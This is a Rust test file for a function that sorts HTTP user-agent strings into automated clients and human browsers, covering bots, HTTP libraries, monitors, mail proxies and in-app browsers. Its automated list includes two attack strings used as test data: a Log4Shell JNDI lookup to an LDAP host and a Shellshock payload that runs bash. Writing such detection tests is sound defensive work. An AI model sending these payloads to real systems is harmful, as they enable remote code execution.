use super::*;

#[test]
fn what_no_person_sits_at_is_automated() {
    for agent in [
        "",
        " ",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "facebookexternalhit/1.1",
        "WhatsApp/2.23.20.0",
        "TelegramBot (like TwitterBot)",
        "Twitterbot/1.0",
        "Slackbot-LinkExpanding 1.0",
        "LinkedInBot/1.0",
        "Viber",
        // HTTP libraries and command-line tools.
        "curl/8.14.1",
        "Wget/1.25.0",
        "HTTPie/3.2.4",
        "python-requests/2.32.5",
        "python-httpx/0.28.1",
        "aiohttp/3.13",
        "Go-http-client/2.0",
        "okhttp/5.1.0",
        "axios/1.12.2",
        "node-fetch/1.0",
        "node",
        "undici",
        "Java/21.0.8",
        "Java-http-client/21.0.8",
        "Apache-HttpClient/5.5",
        "GuzzleHttp/7",
        "Ruby",
        "rest-client/2.1.0",
        "libwww-perl/6.79",
        "PostmanRuntime/7.48.0",
        // Browsers without a person.
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/140.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
        // Uptime monitors.
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        "Uptime-Kuma/2.0.2",
        "ELB-HealthChecker/2.0",
        "kube-probe/1.34",
        "Prometheus/3.5.0",
        // Mail proxies.
        "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
        "YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html",
        "Mozilla/5.0 SeznamEmailProxy/2.0.174",
        "RamblerMail/6.0 (incompatible; ImageProxy/6.0)",
        // Attackers.
        "${jndi:ldap://host.example/a}",
        "() { :; }; /bin/bash -c id",
        // The phone is a mask.
        "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider)",
    ] {
        assert!(is_automated(agent), "{agent}");
    }
}

#[test]
fn browsers_in_apps_and_phones_with_odd_names_are_people() {
    const IPHONE: &str =
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148";
    for app in [
        "",
        "[FBAN/FBIOS;FBAV/530.0.0.52.71;FBBV/780;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/18.6;FBSS/3;FBCR/;FBID/phone]",
        "Instagram 395.0.0.28.111 (iPhone15,2; iOS 18_6; en_US; en; scale=3.00; 1179x2556; 780; IABMV/1)",
        "[LinkedInApp]/9.31.3260",
        "[Pinterest/iOS]",
        "Snapchat/13.51.0.47 (like Safari/8618.3.11.10.8, panda)",
        "Twitter for iPhone/11.14",
        "musical_ly_41.2.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en Region/US BytedanceWebview/d8a21c6",
        "WhatsApp/2.25.27.74",
        "Viber/26.1.0",
        "Line/15.12.0",
        "MicroMessenger/8.0.61(0x18003d2e) NetType/WIFI Language/en",
        "KAKAOTALK/25.7.3 (INAPP)",
        "Telegram-iOS/11.15",
        "Discord/291.0",
        "Reddit/2025.35.0",
    ] {
        let agent = format!("{IPHONE} {app}");
        assert!(!is_automated(&agent), "{agent}");
    }
    for agent in [
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Mozilla/5.0 (Linux; Android 10; CUBOT J9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 6.0; VR BOT (552) Build/MRA58K; wv) AppleWebKit/537.36 Chrome/72.0.3626.121 Mobile",
        "Mozilla/5.0 (Linux; Android 15; CPH2581 Build/AP3A.240617.008; wv) AppleWebKit/537.36 Chrome/141.0.7390.122 Mobile",
        "Mozilla/5.0 (Linux; Android 9; X20; wv) AppleWebKit/537.36 Chrome/101.0 Mobile Instagram 237.0 Android (28/9; 480dpi; CUBOT; X20)",
        "Mozilla/5.0 (Linux; Android 9; X20; wv) AppleWebKit/537.36 Chrome/101.0 Mobile [FBAN/EMA;FBAV/394.1;FBDV/CUBOT X20;]",
        "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Thunderbird/45.8.0 Lightning/4.7.8",
        "Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.3 (like Gecko) Kubuntu",
    ] {
        assert!(!is_automated(agent), "{agent}");
    }
}

#[test]
fn groups_end_where_their_own_bracket_does() {
    for (agent, kept) in [
        ("a (Linux; Android 12; moto g(50) 5G) b", "a  b"),
        ("a (Linux; Android 12; moto g", "a "),
        ("a (compatible; Xbot; Android 4) [b] )c(", "a (compatible; Xbot; Android 4) [b] )c("),
        ("é(android ü)ö", "éö"),
    ] {
        assert_eq!(without_phones(agent), kept);
    }
}
